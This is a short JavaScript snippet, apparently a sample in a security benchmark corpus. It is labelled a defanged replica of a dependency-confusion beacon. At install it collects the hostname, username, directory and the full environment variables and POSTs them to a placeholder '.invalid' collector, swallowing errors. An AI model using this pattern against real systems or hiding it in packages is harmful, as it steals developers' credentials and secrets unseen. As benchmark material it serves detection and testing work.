// DEFANGED REPLICA (bench corpus, issue 10): dependency-confusion beacon posting the whole environment at install.
// Host under .invalid. Never run outside the sandbox.
const https = require('https');
const os = require('os');
const data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: __dirname, e: process.env });
const req = https.request({ hostname: 'oast-collector.invalid', port: 443, path: '/', method: 'POST',
  headers: { 'Content-Type': 'application/json', 'Content-Length': data.length } });
req.on('error', () => {});
req.write(data);
req.end();
